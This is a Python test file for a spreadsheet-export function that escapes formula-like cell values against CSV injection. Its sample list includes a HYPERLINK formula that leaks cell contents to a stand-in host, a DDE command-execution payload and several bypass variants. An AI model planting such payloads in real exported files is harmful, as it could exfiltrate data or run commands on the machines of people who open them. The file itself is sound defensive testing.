"""No text of ours becomes a formula in a spreadsheet, and no number becomes text."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.exports.cells import neutral

FORMULAS = [
    '=HYPERLINK("https://elsewhere.example?leak="&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert neutral(formula) == f"'{formula}"


@pytest.mark.parametrize(
    "value", [12, -3, 0.5, True, None, date(2026, 11, 21), "K7QF-2M9X", "", "å"]
)
def test_everything_else_stays_what_it_is(value: object) -> None:
    assert neutral(value) is value


@given(st.text())
def test_no_text_begins_like_a_formula_afterwards(text: str) -> None:
    assert not str(neutral(text)).lstrip().startswith(("=", "+", "-", "@"))


def test_a_written_row_comes_back_as_it_was_but_for_the_mark() -> None:
    written = io.StringIO()
    csv.writer(written).writerow(map(neutral, ["=1+1", 7, "Nord"]))
    assert next(csv.reader(io.StringIO(written.getvalue()))) == ["'=1+1", "7", "Nord"]
